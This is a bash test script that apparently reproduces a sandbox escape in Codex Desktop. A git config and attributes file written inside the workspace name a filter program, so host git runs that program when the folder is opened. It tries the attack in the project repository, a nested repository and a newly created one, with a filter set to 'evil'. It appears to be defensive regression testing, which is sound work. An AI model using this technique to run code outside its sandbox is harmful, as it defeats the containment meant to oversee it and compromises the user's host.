#!/bin/bash
# CVE-2026-19593, Codex Desktop: attr.tree in the config names a tree with attributes, these name a filter,
# and the filter is a program; opening the folder ran it.
# Escaped: git on the host starts the filter.
# shellcheck disable=SC2317,SC2034,SC2016
NEEDS=protect
. "${0%/*}/../lib.sh"
prepare() { repo "$WS" && git init -q "$WS/sub" && echo 1 >"$WS/sub/file" && git -C "$WS/sub" add file && git -C "$WS/sub" commit -qm one; }
escaped() { marked; }
FILTER='[attr]\n\ttree = HEAD\n[filter "x"]\n\tclean = %s\n\tsmudge = evil\n\trequired = true\n'
plan() { echo "(cd $1; $(config_with .git/config "$FILTER") echo '* filter=x' >.git/info/attributes; echo '* filter=x' >.gitattributes; echo 2 >>file)"; }
attack() { inside "$(plan .)"; host_git "$WS"; }
attempt "in the repository of the project"
attack() { inside "$(plan sub)"; host_git "$WS/sub"; }
attempt "in a repository below"
attack() { inside "git init -q new; (cd new; echo 1 >file; git add file; git commit -qm one); $(plan new)"; host_git "$WS/new"; }
attempt "in a repository made inside"
